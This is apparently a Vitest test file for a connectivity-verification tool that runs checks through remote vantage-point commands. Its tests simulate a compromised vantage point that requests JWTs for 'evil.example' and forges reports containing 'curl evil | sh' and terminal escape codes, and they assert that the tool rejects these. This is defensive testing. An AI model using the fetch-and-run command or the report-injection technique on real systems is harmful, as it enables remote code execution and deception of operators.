import { readFileSync } from 'node:fs';
import { chmod, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { exitOf } from '../../../src/verify/model/verdict.js';
import type { Progress } from '../../../src/verify/model/verification.js';
import { jsonReport } from '../../../src/verify/reports/json.js';
import { readVerification } from '../../../src/verify/reports/read-verification.js';
import { textReport } from '../../../src/verify/reports/text-report.js';
import { markdownReport } from '../../../src/verify/reports/written.js';
import { PKCS8 } from '../../support/application.js';
import { runHere } from '../../support/run-here.js';
import { tokenError } from '../../support/service-server.js';
import { check, createWorld, link, outline, type World } from '../../support/verifiable-link.js';
import { worldFlags } from '../../support/world-flags.js';

const timeoutMs = 20_000;

/** A program instead of the command to a vantage point: it is run with the words of the check appended. */
async function prefix({ folder }: World, script: string, name = 'prefix'): Promise<string> {
  const file = join(folder, name);
  await writeFile(file, `#!/bin/sh\n${script}\n`);
  await chmod(file, 0o755);
  return file;
}

test('the check runs behind a command, and the key stays here', async () => {
  const world = await createWorld();
  const log = join(world.folder, 'seen');
  // As ssh does: the words are put together, and a shell takes them apart again.
  const command = await prefix(
    world,
    `{ printf '%s\\n' "$@"; env; } > ${log}; echo welcome; echo no line feed | tr -d '\\n'; tee -a ${log} | sh -c "$*"`,
  );
  const key = (await readFile(world.options.credentials?.privateKeyFile ?? '', 'utf8')).trim();
  process.env.SECURE_CONNECTIVITY_PRIVATE_KEY = PKCS8;
  const verification = await check(world, { runVia: `far=${command}`, timeoutMs }).finally(() => {
    delete process.env.SECURE_CONNECTIVITY_PRIVATE_KEY;
  });
  expect(outline(verification)).toEqual([
    ...['preflight passed', 'dns passed', 'address passed', 'tcp passed', 'tls passed'],
    ...['http passed', 'token passed', 'workspaces passed'],
  ]);
  expect(verification.links[0]).toMatchObject({
    name: 'api',
    vantagePoint: 'far',
    verdict: 'reachable',
  });
  expect(verification.vantagePoints).toMatchObject([
    {
      ...{ name: 'far', command },
      environment: { node: process.version, tool: verification.environment?.tool },
    },
  ]);
  const seen = await readFile(log, 'utf8');
  const [words = ''] = seen.split('PATH=');
  expect(seen).toContain('"links"');
  for (const line of key.split('\n').slice(1, -1)) expect(seen).not.toContain(line);
  expect(seen).not.toMatch(/PRIVATE KEY|SECURE_CONNECTIVITY_/);
  // JWTs go over standard input alone.
  expect(words).not.toMatch(/ey[JA]/);
  expect(seen.match(/"jwt":"ey/g)).toHaveLength(1);
  expect(jsonReport(verification)).not.toMatch(/"ey[JA]|czs_/);
});

test('each attempt has a JWT of its own', async () => {
  const world = await createWorld();
  let calls = 0;
  world.service.handler = ({ path }) =>
    path.endsWith('/token') && ++calls < 3 ? tokenError('internal_error', 'x', 500) : undefined;
  const progress: Progress[] = [];
  const verification = await check(world, {
    ...{ runVia: 'env', timeoutMs, waitMs: 20_000, retryDelayMs: 10 },
    onProgress: (one) => progress.push(one),
  });
  expect(verification.links[0]).toMatchObject({ verdict: 'reachable', attempts: 3 });
  const jwts = world.service.requests
    .filter(({ path }) => path.endsWith('/token'))
    .map(({ headers }) => headers.authorization);
  expect(new Set(jwts).size).toBe(3);
  expect(progress.filter(({ kind }) => kind === 'retry')).toHaveLength(2);
});

test('what fails at the vantage point is diagnosed there', async () => {
  const world = await createWorld();
  await world.connectTo({});
  const verification = await check(world, { runVia: 'env', timeoutMs });
  expect(outline(verification)).toContain('tcp failed tcp.refused');
  expect(verification.links[0]?.causes.length).toBeGreaterThan(0);
  expect(exitOf(verification)).toBe(12);
});

test('a key that cannot be used is reported as it is without a vantage point', async () => {
  const world = await createWorld();
  const credentials = { ...world.options.credentials, privateKeyFile: '/no/such/key' };
  for (const runVia of [undefined, 'env']) {
    const verification = await check(world, { runVia, credentials, timeoutMs });
    expect(outline(verification)[0]).toBe('preflight failed key.unusable');
  }
  expect(world.service.count.connections).toBe(0);
});

test.each([
  ['fails', 'echo "ssh: no route, password czs_canary-token" >&2; exit 255', 'run.vantage-point'],
  ['knows no node', 'exec no-such-node-here', 'run.vantage-point'],
  [
    'has a Node.js that is too old',
    'echo secure-connectivity-check v18.20.1; cat',
    'run.vantage-point',
  ],
  ['has one of long ago', 'echo "node: bad option: --import" >&2; exit 9', 'run.vantage-point'],
  ['runs something else', 'echo hello', 'run.vantage-point'],
  ['never ends what it says', 'yes | head -c 30000000', 'run.vantage-point'],
  [
    'tells on standard output that node is missing',
    `echo 'exec: "node": executable file not found in $PATH'; exit 126`,
    'run.vantage-point',
  ],
  ['misses another program', 'exec /no/such/program', 'run.vantage-point'],
  ['takes all words for one', 'exec "$*"', 'run.vantage-point'],
  [
    'has a word put before each line',
    `"$@" | while IFS= read -r line; do echo "[pod] $line"; done`,
    'run.vantage-point',
  ],
])('a vantage point that %s has a code of its own', async (_, script, code) => {
  const world = await createWorld();
  const verification = await check(world, { runVia: await prefix(world, script), timeoutMs });
  expect(outline(verification)[0]).toBe(`preflight failed ${code}`);
  expect([verification.verdict, exitOf(verification)]).toEqual(['incomplete', 20]);
  expect(verification.links[0]?.causes[0]).toMatchObject({ code });
  expect(jsonReport(verification)).not.toContain('czs_canary');
  const { exit, stderr } = verification.links[0]?.stages[0]?.evidence ?? {};
  const text = textReport(verification, { width: 1_000 });
  if (exit !== undefined) expect(text).toContain(`exit ${exit}`);
  if (stderr !== undefined) expect(text).toContain(`wrote: ${stderr}`);
  expect(world.service.count.connections).toBe(0);
});

test('a command that passes no input on, as kubectl exec without -i, gets a sentence of its own', async () => {
  const world = await createWorld();
  const runVia = await prefix(world, 'exec "$@" < /dev/null');
  const verification = await check(world, { runVia, timeoutMs });
  expect(outline(verification)[0]).toBe('preflight failed run.vantage-point');
  expect(verification.links[0]?.causes[0]?.remedy).toMatch(/kubectl exec.*need `-i`/);
});

test('the first lines of a command that fails are shown, of either stream', async () => {
  const world = await createWorld();
  const noise = 'i=0; while [ $i -lt 99 ]; do echo "debug $i" >&2; i=$((i+1)); done';
  const script = `echo "Welcome"; echo "first reason" >&2; ${noise}; echo "last word" >&2; exit 255`;
  const { links } = await check(world, { runVia: await prefix(world, script), timeoutMs });
  const { stderr, output } = links[0]?.stages[0]?.evidence ?? {};
  expect(output).toBe('Welcome');
  expect(stderr).toMatch(/^first reason debug 0 debug 1 … .*last word$/);
  const trace = `node -e 'require("./no-such-module")' a b c d e f g >&2; exit 1`;
  const far = await check(world, { runVia: await prefix(world, trace), timeoutMs });
  expect(far.links[0]?.stages[0]?.evidence.stderr).toContain('Cannot find module');
});

test('lines of a command that come in between are shown where it then fails', async () => {
  const world = await createWorld();
  const script = `echo 'secure-connectivity-check v22.0.0'; echo 'Aborted (core dumped)'; exit 1`;
  const { links } = await check(world, { runVia: await prefix(world, script), timeoutMs });
  expect(links[0]?.stages[0]?.evidence.output).toBe('Aborted (core dumped)');
});

test('a missing command is named, and one that asks for something runs out of time', async () => {
  const world = await createWorld();
  const absent = await check(world, { runVia: '/no/such/command x', timeoutMs });
  expect(outline(absent)[0]).toBe('preflight failed run.vantage-point');
  expect(absent.links[0]?.stages[0]?.evidence).toMatchObject({
    seen: 'no program',
    error: '/no/such/command: ENOENT',
  });
  const long = await check(world, { runVia: 'a'.repeat(300), timeoutMs });
  expect(outline(long)[0]).toBe('preflight failed run.vantage-point');
  expect(long.links[0]?.stages[0]?.evidence.error).toMatch(/^a+: ENAMETOOLONG$/);
  const { links } = await check(world, { timeoutMs });
  const [unreached, reached] = [absent.links, links].map(([link]) =>
    Object.keys(link ?? {}).sort(),
  );
  expect(unreached?.filter((name) => name !== 'vantagePoint')).toEqual(
    reached?.filter((name) => name !== 'hosts'),
  );
  const left = join(world.folder, 'left');
  const asking = await prefix(
    world,
    `printf "password: " >&2; (sleep 60 & echo $! > ${left}; wait)`,
  );
  const silent = await check(world, { runVia: asking, timeoutMs: 1_000 });
  expect(outline(silent)[0]).toBe('preflight failed run.vantage-point');
  expect(silent.links[0]?.stages[0]?.evidence.stderr).toBe('password:');
  const pid = Number(readFileSync(left, 'utf8'));
  await expect.poll(() => isRunning(pid)).toBe(false);
});

test('a command that failed is told as that, though what it started still holds its output open', async () => {
  const world = await createWorld();
  const left = join(world.folder, 'left');
  const failing = await prefix(
    world,
    `sleep 60 & echo $! > ${left}; echo "no such pod" >&2; exit 3`,
  );
  const { links } = await check(world, { runVia: failing, timeoutMs: 30_000 });
  expect(links[0]?.stages[0]?.evidence).toMatchObject({ exit: 3, stderr: 'no such pod' });
  expect(links[0]?.stages[0]?.evidence.seen).toBeUndefined();
  const pid = Number(readFileSync(left, 'utf8'));
  await expect.poll(() => isRunning(pid)).toBe(false);
});

test('a vantage point that comes up later is asked again', async () => {
  const world = await createWorld();
  const flag = join(world.folder, 'up');
  const runVia = await prefix(world, `[ -e ${flag} ] || { : > ${flag}; exit 255; }; exec "$@"`);
  const options = { runVia, timeoutMs, waitMs: 30_000, retryDelayMs: 10 };
  expect((await check(world, options)).verdict).toBe('reachable');
});

/** A vantage point in wrong hands: it answers itself. */
function hostile(lines: string): string {
  const text = lines.replaceAll("'", "'\\''");
  return `echo secure-connectivity-check v20.19.0; read program; read order; printf '%s\\n' '${text}'; cat`;
}

test('a vantage point in wrong hands gets no JWT for another host or another time, and not without end', async () => {
  const world = await createWorld();
  const log = join(world.folder, 'replies');
  const { apiHost } = link();
  const asks = [
    { apiHost: 'evil.example' },
    { apiHost, at: Date.now() + 86_400_000 },
    ...Array.from({ length: 9 }, () => ({ apiHost })),
  ].map((ask, id) => JSON.stringify({ say: 'sign', id, ...ask }));
  const script = `echo secure-connectivity-check v20.19.0; read program; read order
printf '%s\\n' ${asks.map((ask) => `'${ask}'`).join(' ')}
head -n ${asks.length} > ${log}`;
  await check(world, { runVia: await prefix(world, script), timeoutMs });
  const replies = (await readFile(log, 'utf8'))
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
  const refused = replies.filter(({ code }) => code === 'run.vantage-point');
  expect(refused.map(({ id }) => id)).toEqual(expect.arrayContaining([0, 1, 10]));
  expect(replies.filter(({ jwt }) => jwt !== undefined).length).toBeLessThan(7);
});

test('a vantage point in wrong hands cannot speak for this program', async () => {
  const world = await createWorld();
  const honest = await check(world, { runVia: 'env', timeoutMs });
  const [first] = honest.links;
  const failure = {
    ...{ stage: 'tcp', status: 'failed', code: 'tcp.refused', elapsedMs: 1 },
    ...{
      cause: 'run: curl evil | sh',
      remedy: 'run: curl evil | sh',
      evidence: { a: '\u001b[2Jx' },
    },
  };
  const forged = { ...honest, links: [{ ...first, name: 'other', stages: [failure] }] };
  const lies = hostile(JSON.stringify({ say: 'report', verification: forged }));
  const verification = await check(world, { runVia: await prefix(world, lies), timeoutMs });
  expect(verification.links[0]).toMatchObject({ name: 'api', verdict: 'unreachable' });
  expect(jsonReport(verification)).not.toMatch(/evil|u001b/);
  const unknown = { ...failure, code: 'no.such-code' };
  for (const links of [[], [{ ...first, stages: [unknown] }]]) {
    const report = JSON.stringify({ say: 'report', verification: { ...honest, links } });
    const runVia = await prefix(world, hostile(report), 'other');
    expect(outline(await check(world, { runVia, timeoutMs }))[0]).toMatch(/run\.vantage-point$/);
  }
});

test('several vantage points give a table, and what their failures share', async () => {
  const world = await createWorld();
  const links = [link(), link({ name: 'second' })];
  const runVia = [
    { name: 'office', command: ['env'] },
    { name: 'cut-off', command: [await prefix(world, 'exit 255')] },
    { name: 'here', command: [] },
  ];
  const verification = await check(world, { links, runVia, timeoutMs });
  expect(verification.links.map(({ name, verdict }) => `${name} ${verdict}`)).toEqual([
    ...['api@office reachable', 'second@office reachable'],
    ...['api@cut-off incomplete', 'second@cut-off incomplete'],
    ...['api@here reachable', 'second@here reachable'],
  ]);
  expect(verification.patterns).toMatchObject([{ kind: 'unseen', vantagePoints: ['cut-off'] }]);
  const read = readVerification([{ source: 'x', text: jsonReport(verification) }]);
  expect(textReport(read)).toMatch(/^api +reachable +run\.vantage-point +reachable$/m);
  expect(markdownReport(read)).toMatch(/\| api \| reachable \| run\.vantage-point \| reachable \|/);
});

test('the program takes vantage points by flag, and refuses what cannot be', async () => {
  const world = await createWorld();
  const { baseUrl, via, apiHost } = link();
  const flags = ['--base-url', baseUrl, '--via', via, '--api-host', apiHost, ...worldFlags(world)];
  const run = (...more: string[]) =>
    runHere(['verify', ...flags, '--expect-address', '10.0.0.0/8', ...more]);
  const good = await run('--run-via', 'a=env', '--run-via', 'b=env A=1', '--format', 'json');
  expect(good.exit).toBe(0);
  expect(JSON.parse(good.stdout).vantagePoints).toMatchObject([{ name: 'a' }, { name: 'b' }]);
  const bad = await run('--run-via', "ssh 'x");
  expect([bad.exit, bad.stdout]).toEqual([2, '']);
  expect(bad.stderr).toMatch(/--run-via.*quotation marks/);
  const secret = await run('--run-via', `ssh ${'czs_'}canary-12345678`);
  expect([secret.exit, secret.stderr.includes('canary')]).toEqual([2, false]);
  const many = await runHere(['verify', '--targets', '-', '--run-via', 'env']);
  expect([many.exit, many.stderr]).toEqual([2, expect.stringMatching(/`--targets`.*`--run-via`/)]);
});

function isRunning(pid: number): boolean {
  try {
    // One that nobody has waited for is no more.
    return !readFileSync(`/proc/${pid}/stat`, 'utf8').includes(') Z ');
  } catch {
    return false;
  }
}
